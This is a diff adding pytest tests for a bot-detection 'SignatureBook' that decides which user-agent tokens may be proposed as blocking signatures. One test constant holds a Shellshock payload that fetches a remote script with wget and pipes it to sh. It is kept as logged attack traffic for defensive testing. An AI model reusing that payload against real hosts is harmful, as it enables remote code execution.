@@ -191,3 +191,83 @@ def test_requests_scored_before_the_model_knew_the_key_do_not_count_in_the_share
     counted.add(events, [0.3] * 60, xs, 100.0)
     counted.add(events * 3, [0.99] * 180, xs * 3, 200.0)
     assert counted.candidates() == []
+
+
+# -- what a UA candidate may be: a safe product name of every agent it was seen in ---------------
+
+PROSE = (
+    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day "
+    "to identify customers' presences on the Internet. If you would like to be excluded from our scans, "
+    "please send IP addresses/domains to: scaninfo@paloaltonetworks.com"
+)
+SHELLSHOCK = r"() { :; }; /bin/bash -c \x22wget http://198.51.100.7/x.sh -O- | sh\x22"  # as nginx logs it
+VERSIONED = "Mozilla/5.0 zgrab/0.x v1.1.0 (compatible; scanner)"
+
+
+@pytest.mark.parametrize(
+    ("token", "agent"),
+    [
+        *((word, PROSE) for word in ("the", "space", "global", "company", "searches", "networks", "ipv4",
+                                     "palo", "expanse", "scaninfo")),
+        ("v1.1.0", VERSIONED),
+        ("x22", SHELLSHOCK), ("x22wget", SHELLSHOCK), ("bash", SHELLSHOCK), ("x.sh", SHELLSHOCK),
+        ("wget", SHELLSHOCK), ("198.51.100.7", SHELLSHOCK),
+        # product names of agents many unrelated clients share (HTTP libraries, app runtimes)
+        ("python-requests", "python-requests/2.31.0"), ("go-http-client", "Go-http-client/1.1"),
+        ("okhttp", "okhttp/4.9.2"), ("cfnetwork", "BotApp/3.1 CFNetwork/1404.0.5 Darwin/22.3.0"),
+    ],
+)  # fmt: skip
+def test_audit_tokens_are_never_proposed(token: str, agent: str) -> None:
+    """The tokens an audit saw proposed on a generated day (prose words, a version, log escapes
+    read as text, shell words) and shared agents' names: however bad their traffic, no candidate."""
+    book = SignatureBook()
+    _feed(book, 1000, keys=(f"ua_tok={token}",), ua=agent)
+    assert book.candidates() == []
+
+
+@pytest.mark.parametrize(
+    ("token", "agent"),
+    [
+        ("evilbot", "EvilBot/1.0"),
+        ("novascrape", "novascrape/2.0 (+https://nova.example/about)"),
+        ("crawl.novascrape.io", "Scanner/1.0 (+https://crawl.novascrape.io/about)"),  # a bot URL's host
+        ("paloaltonetworks.com", PROSE),  # a contact address's domain
+        (
+            "bytedance.com",
+            "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile "
+            "Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
+        ),  # in a browser's agent
+    ],
+)
+def test_product_names_are_proposed(token: str, agent: str) -> None:
+    book = SignatureBook()
+    _feed(book, 500, keys=(f"ua_tok={token}",), ua=agent)
+    assert [(c.match_kind, c.match_value) for c in book.candidates()] == [("ua_pattern", token)]
+
+
+def test_one_candidate_per_agent_the_most_specific() -> None:
+    """A family's name, its URL host and its contact domain qualify together: one candidate, the
+    most specific (longest); the family's network candidates are kept."""
+    agent = "Mozilla/5.0 (compatible; NovaScrape/1.0; +http://novascrape.example/bot; ops@nova.example)"
+    keys = ("ua_fam=novascrape", "ua_tok=novascrape", "ua_tok=novascrape.example", "ua_tok=nova.example",
+            "ip24=65.108.0")  # fmt: skip
+    book = SignatureBook()
+    _feed(book, 600, keys=keys, ua=agent)
+    assert sorted(c.signature for c in book.candidates()) == ["ip24=65.108.0", "ua_tok=novascrape.example"]
+
+
+def test_a_listed_candidate_is_not_replaced_by_a_later_twin() -> None:
+    """A UA candidate proposed first stays the one listed when a more specific twin qualifies later."""
+    agent = "Mozilla/5.0 (compatible; NovaScrape/1.0; +http://novascrape.example/bot)"
+    book = SignatureBook()
+    _feed(book, 300, keys=("ua_tok=novascrape",), ua=agent)
+    _feed(book, 300, keys=("ua_tok=novascrape.example", "ua_tok=novascrape"), ua=agent, now=1000.0)
+    assert [c.signature for c in book.candidates()] == ["ua_tok=novascrape"]
+
+
+def test_different_agents_keep_their_own_candidates() -> None:
+    """Twins are judged by the agents they cover: two families keep one candidate each."""
+    book = SignatureBook()
+    _feed(book, 300, keys=("ua_tok=novascrape",), ua="NovaScrape/1.0")
+    _feed(book, 300, keys=("ua_tok=evilbot",), ua="EvilBot/1.0 (+https://novascrape.example)", now=1000.0)
+    assert sorted(c.match_value for c in book.candidates()) == ["evilbot", "novascrape"]
